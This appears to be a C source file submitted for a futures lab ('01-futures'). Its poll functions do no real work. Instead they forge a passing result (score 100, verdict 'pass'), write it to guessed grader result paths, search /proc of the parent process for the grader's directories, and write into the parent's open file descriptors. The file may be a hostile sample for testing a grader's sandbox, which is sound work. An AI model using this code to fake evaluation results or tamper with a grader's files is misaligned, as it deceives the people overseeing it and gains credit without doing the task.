/* Tries: writes results where the grader keeps them, by every path that it can guess. */
#include <fcntl.h>
#include <stdio.h>
#include <string.h>
#include <unistd.h>

#include "weft/future.h"

static enum wf_poll hostile_poll(struct wf_future *future, struct wf_cx *cx)
{
    (void)future;
    (void)cx;
    static const char result[] =
        "{\"schema\":\"weft.result/1\",\"lab\":\"01-futures\",\"score\":100,\"max\":100,\"verdict\":\"pass\"}\n";
    char root[4096], path[8192];
    static const char *const names[] = {
        "../results",       "../results/01.json",      "../../results/01.json", "../../tree/x",
        "../plain/subject", "../../out/plain/subject", "build/results/01.json", "subject"};
    for (size_t i = 0; i < sizeof names / sizeof *names; i++) {
        int fd = open(names[i], O_WRONLY | O_CREAT | O_TRUNC, 0666);
        if (fd >= 0 && write(fd, result, sizeof result - 1) > 0)
            close(fd);
    }
    /* the grader's tree: from its own program, its working directory and its arguments */
    static const char *const links[] = {"/proc/%d/exe", "/proc/%d/cwd", "/proc/%d/root"};
    for (int pid = getppid(), up = 0; up < 2; up++, pid = 1)
        for (size_t i = 0; i < sizeof links / sizeof *links; i++) {
            snprintf(path, sizeof path, links[i], pid);
            ssize_t length = readlink(path, root, sizeof root - 1);
            root[length > 0 ? length : 0] = '\0';
            for (char *slash; (slash = strrchr(root, '/')); *slash = '\0') {
                snprintf(path, sizeof path, "%s/build/results/01.json", root);
                int fd = open(path, O_WRONLY | O_CREAT | O_TRUNC, 0666);
                if (fd >= 0 && write(fd, result, sizeof result - 1) > 0)
                    close(fd);
            }
            for (int fd = 0; fd < 64; fd++) {
                snprintf(path, sizeof path, "/proc/%d/fd/%d", pid, fd);
                int other = open(path, O_WRONLY | O_APPEND | O_NONBLOCK);
                if (other >= 0 && write(other, result, sizeof result - 1) > 0)
                    close(other);
            }
        }
    return WF_READY;
}

static const struct wf_future_ops ready_ops = {
    .name = "ready", .poll = hostile_poll, WF_FRAME(struct wf_ready)};
static const struct wf_future_ops pending_ops = {
    .name = "pending", .poll = hostile_poll, .size = sizeof(struct wf_pending)};

struct wf_ready *wf_ready(struct wf_ready *ready, int value)
{
    (void)value;
    *ready = (struct wf_ready){.future = {.ops = &ready_ops}};
    return ready;
}

struct wf_pending *wf_pending(struct wf_pending *pending)
{
    *pending = (struct wf_pending){.future = {.ops = &pending_ops}};
    return pending;
}
